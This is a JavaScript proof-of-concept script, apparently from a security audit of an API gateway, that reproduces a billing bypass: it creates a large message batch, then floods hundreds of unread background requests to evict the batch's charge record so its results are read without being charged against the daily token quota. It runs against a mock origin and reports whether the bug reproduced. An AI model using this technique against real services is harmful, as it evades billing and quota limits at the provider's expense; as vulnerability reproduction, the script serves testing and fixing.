// R76-2: a message batch whose answers take more than its creation charged is charged the rest when its
// results are read -- unless the key first leaves 512+ newer answers unread (cheap background responses):
// the batch's charge record is pushed out while its ownership record stays, and the read charges nothing.
// The mock origin answers every item of a batch with the first item's max_tokens, which stands for input
// or output the origin adds beyond what the guard reserved (server tools, documents by file_id, ...).
import { req, setOv, newKey, tpdUsed, sleep, log } from "./lib.mjs";
const ah = { "anthropic-version": "2023-06-01" };
const ITEMS = 1500, TPD = 60000, PUSH = 530;
async function run(push) {
  const K = newKey(push ? "evict" : "control");
  await setOv(K, { rpm: 100000, concurrency: 100000, tpm: 10000000, tpd: TPD });
  const requests = []; for (let i = 0; i < ITEMS; i++) requests.push({ custom_id: "r" + i, params: { model: "mock-claude", max_tokens: i === 0 ? 64 : 1, messages: [{ role: "user", content: "Q" + i }] } });
  const mb = await req("POST", "/v1/messages/batches", K, { requests }, ah);
  const bgIds = [];
  for (let i = 0; i < (push ? PUSH : 0); i += 25) {
    const rs = await Promise.all(Array.from({ length: Math.min(25, PUSH - i) }, () => req("POST", "/v1/responses", K, { model: "mock-gpt", input: "hi", background: true, max_output_tokens: 16 })));
    for (const r of rs) if (r.status === 200) bgIds.push(r.json.id);
  }
  const t0 = await tpdUsed(K);
  const r = await req("GET", `/v1/messages/batches/${mb.json.id}/results`, K, undefined, ah);
  await sleep(1500);
  const t1 = await tpdUsed(K);
  let out = 0, n = 0; for (const l of r.text.trim().split("\n")) { const u = JSON.parse(l).result?.message?.usage; if (u) { out += u.output_tokens + u.input_tokens; n++; } }
  const after = await req("POST", "/v1/chat/completions", K, { model: "mock-gpt", max_tokens: 1, messages: [{ role: "user", content: "ok?" }] });
  const res = { push, batch: mb.status, id: mb.json.id, pushed: bgIds.length, results: r.status, answers: n, billed: out, tpdBeforeRead: t0, chargedAtRead: t1 - t0, nextRequest: after.status };
  console.log(JSON.stringify(res)); return res;
}
const ctl = await run(false), atk = await run(true);
log("r76-2.json", { ctl, atk });
console.log(`control: results billed ${ctl.billed}, charged at read ${ctl.chargedAtRead}, next request ${ctl.nextRequest}`);
console.log(`attack:  results billed ${atk.billed}, charged at read ${atk.chargedAtRead} after ${atk.pushed} unread background jobs, next request ${atk.nextRequest}`);
if (ctl.chargedAtRead > 0.5 * ctl.billed - 20000 && ctl.chargedAtRead > 10000 && atk.answers === ITEMS && atk.chargedAtRead < 1000) console.log("R76-2 REPRODUCED");
else console.log("R76-2 not reproduced");
